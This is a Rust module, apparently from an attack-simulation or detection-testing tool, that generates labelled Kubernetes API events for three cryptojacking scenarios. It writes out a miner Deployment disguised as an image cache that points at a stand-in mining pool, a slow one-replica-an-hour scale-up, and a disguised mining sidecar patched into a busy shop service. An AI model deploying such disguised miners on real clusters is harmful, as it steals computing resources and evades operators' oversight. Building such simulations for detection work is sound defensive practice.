//! Computing power is stolen.
//!
//! **Plain**: a Deployment in the sandbox that talks to a pool. **Slow**: it grows by one replica an hour.
//! **Living off the land**: a sidecar from the shop's own registry in a service that is known to be busy.

use serde_json::json;

use crate::cast::person;
use crate::clock::Moment;
use crate::dice::Dice;
use crate::kubectl;
use crate::timetable::{Pace, Timetable, attack};

/// The three variants, on different days.
pub fn plan(table: &mut Timetable, dice: &mut Dice) {
    let outside = format!("198.51.100.{}", dice.between(10, 250));
    let chloe = person("chloe").from(&outside);
    let deployments = "/apis/apps/v1/namespaces/dev-sandbox/deployments";
    let labels = json!({"app.kubernetes.io/name": "image-cache"});
    let made = json!({"apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": "image-cache", "namespace": "dev-sandbox", "labels": labels},
        "spec": {"replicas": 2, "selector": {"matchLabels": labels},
            "template": {"metadata": {"labels": labels},
                "spec": {"containers": [{"name": "cache", "image": "docker.io/cachetools/node-cache:2.1",
                    "args": ["-o", "stratum+tcp://eu.pool.example:3333", "-t", "2", "--donate-level=1"],
                    "resources": {"requests": {"cpu": "150m", "memory": "256Mi"},
                                  "limits": {"memory": "2Gi"}}}]}}}});
    let at = Moment::at(3, 23, dice.between(0, 60));
    let mark = attack("miner", "plain", "T1496");
    table.add_marked(at, Pace::AtOnce, &mark, vec![chloe.post(deployments, made)]);

    let scale = format!("{deployments}/image-cache/scale");
    let calls =
        (3..9).map(|replicas| chloe.merge(scale.clone(), json!({"spec": {"replicas": replicas}})));
    let at = Moment::at(4, 3, dice.between(10, 60));
    table.add_marked(
        at,
        Pace::Hourly,
        &attack("miner", "slow", "T1496"),
        calls.collect(),
    );

    let sidecar = json!({"name": "model-cache", "image": "registry.shop.example/shop/model-cache:0.2.0",
        "args": ["--endpoint=models.pool.example:443", "--threads=2"],
        "resources": {"requests": {"cpu": "40m", "memory": "128Mi"}, "limits": {"memory": "2Gi"}}});
    let calls = kubectl::set_container(
        &person("omar"),
        "shop",
        "recommendations",
        "patch",
        &sidecar,
    );
    let at = Moment::at(4, 18, dice.between(0, 60));
    let mark = attack("miner", "living-off-the-land", "T1496");
    table.add_marked(at, Pace::AtOnce, &mark, calls);
}
